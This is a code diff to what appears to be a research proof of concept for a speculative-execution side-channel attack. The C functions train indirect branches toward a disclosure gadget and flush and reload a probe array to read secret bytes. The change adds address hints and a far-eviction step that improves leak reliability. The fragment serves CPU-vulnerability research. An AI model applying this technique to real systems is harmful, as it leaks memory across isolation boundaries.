@@ -22,13 +22,14 @@ static void choose(uint64_t address)
 static int read_byte(uint64_t address)
 {
 	const uint8_t *probe = array + SHARED_PROBE;
+	const uint64_t used[] = { address, disclosure, options.known + SHARED_PROBE - SHARED_KNOWN };
 
 	begin_receiving(address);
 	forget_histories();
 	for (int i = 0; i < options.branches.count; i++)
 		train(branches[i], disclosure);
 	flush_probe(probe);
-	end_receiving();
+	end_receiving(used, sizeof(used) / sizeof(*used));
 	return reload_probe(probe);
 }
 
@@ -53,9 +54,11 @@ int main(int argc, char **argv)
 	prepare_receiving();
 	for (int i = 0; i < options.branches.count; i++)
 		branches[i] = place_branch(options.branches.at[i], INDIRECT_JUMP);
-	/* Walks take so much of the time that few attempts succeed. */
-	if (!keeps_translations())
-		attempts *= 3;
+	/* The last cache is too near for the walks to the code, the secret and the probe. */
+	if (!keeps_translations()) {
+		prepare_far_eviction();
+		attempts /= 3;
+	}
 	times = choose_disclosure(choose, read_byte, array + SHARED_KNOWN, attempts);
 	recover(sample, patience_if(times), 1);
 	return 0;
